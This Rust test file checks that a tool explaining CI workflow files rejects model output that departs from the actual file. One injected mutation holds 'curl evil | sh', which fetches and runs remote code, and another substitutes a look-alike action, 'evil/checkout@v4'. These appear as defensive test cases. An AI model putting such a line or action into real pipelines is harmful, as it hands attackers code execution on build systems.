//! R08: what the model says is held against the file.

use runner_core::model::{ModelPlan, prompt, schema};
use runner_core::workflow::{Workflow, parse};

const FILE: &str = "on: push\njobs:\n  build:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          make\n          make test\n  deploy:\n    needs: build\n    runs-on: x\n    steps: [{run: ./deploy}]\n";

fn workflow() -> Workflow {
    parse("ci.yml", FILE.as_bytes()).expect("a good file").value
}

fn good() -> serde_json::Value {
    serde_json::json!({"jobs": [
        {"id": "build", "needs": [], "steps": [
            {"name": null, "run": null, "uses": "actions/checkout@v4", "explanation": "gets the files", "commands": ["git clone"]},
            {"name": null, "run": "make\nmake test", "uses": null, "explanation": "builds", "commands": []},
        ]},
        {"id": "deploy", "needs": ["build"], "steps": [
            {"name": null, "run": "./deploy", "uses": null, "explanation": null, "commands": []},
        ]},
    ]})
}

#[test]
fn a_plan_that_equals_the_file_may_explain() {
    let fenced = format!("```json\n{}\n```", good());
    let notes = ModelPlan::parse(&fenced)
        .unwrap()
        .compare(&workflow())
        .unwrap();
    assert_eq!(notes[0].steps[0].commands, ["git clone"]);
    assert_eq!(notes[0].steps[1].explanation.as_deref(), Some("builds"));
}

/// Changes a good plan.
type Change = fn(&mut serde_json::Value);

#[test]
fn r08_any_other_command_refuses_the_run() {
    let changes: [(&str, Change, &str); 11] = [
        (
            "another script",
            |plan| plan["jobs"][0]["steps"][1]["run"] = "make\ncurl evil | sh".into(),
            "script is not the file's",
        ),
        (
            "one letter",
            |plan| plan["jobs"][1]["steps"][0]["run"] = "./deploY".into(),
            "script is not the file's",
        ),
        (
            "another action",
            |plan| plan["jobs"][0]["steps"][0]["uses"] = "evil/checkout@v4".into(),
            "action is not the file's",
        ),
        (
            "a script for an action",
            |plan| plan["jobs"][0]["steps"][0]["run"] = "git clone".into(),
            "uses an action",
        ),
        (
            "an action for a script",
            |plan| plan["jobs"][1]["steps"][0] = serde_json::json!({"uses": "a/b"}),
            "runs a script",
        ),
        (
            "an empty step",
            |plan| plan["jobs"][1]["steps"][0] = serde_json::json!({}),
            "runs a script",
        ),
        (
            "a step more",
            |plan| {
                let step = plan["jobs"][1]["steps"][0].clone();
                plan["jobs"][1]["steps"].as_array_mut().unwrap().push(step);
            },
            "has 1 steps, not 2",
        ),
        (
            "a step less",
            |plan| plan["jobs"][0]["steps"] = serde_json::json!([]),
            "has 2 steps, not 0",
        ),
        (
            "steps swapped",
            |plan| plan["jobs"][0]["steps"].as_array_mut().unwrap().swap(0, 1),
            "uses an action",
        ),
        (
            "jobs swapped",
            |plan| plan["jobs"].as_array_mut().unwrap().swap(0, 1),
            "its jobs are",
        ),
        (
            "needs dropped",
            |plan| plan["jobs"][1]["needs"] = serde_json::json!([]),
            "needs something else",
        ),
    ];
    for (name, change, part) in changes {
        let mut plan = good();
        change(&mut plan);
        let error = ModelPlan::parse(&plan.to_string())
            .unwrap()
            .compare(&workflow())
            .expect_err(name);
        assert!(error.to_string().contains(part), "{name}: {error}");
    }
}

#[test]
fn r09_a_reply_that_is_no_plan_is_named() {
    for reply in [
        "",
        "no",
        "{\"jobs\": 1}",
        "{\"jobs\": [], \"x\": 1}",
        "{\"jobs\": [{\"id\": \"a\"",
    ] {
        assert!(
            ModelPlan::parse(reply)
                .unwrap_err()
                .to_string()
                .contains("not the JSON"),
            "{reply}"
        );
    }
    let long = " ".repeat((1 << 20) + 1);
    assert!(
        ModelPlan::parse(&long)
            .unwrap_err()
            .to_string()
            .contains("1048577 bytes")
    );
    let deep = "[".repeat(100_000);
    assert!(ModelPlan::parse(&deep).is_err());
}

#[test]
fn the_schema_allows_what_is_read_and_nothing_else() {
    let schema = schema();
    assert_eq!(schema["additionalProperties"], false);
    let step = &schema["properties"]["jobs"]["items"]["properties"]["steps"]["items"];
    let step_keys: Vec<&String> = step["properties"].as_object().unwrap().keys().collect();
    let good_keys: Vec<String> = good()["jobs"][0]["steps"][0]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert_eq!(step_keys, good_keys.iter().collect::<Vec<_>>());
    assert!(prompt("ci.yml", FILE)[1].ends_with(FILE));
}
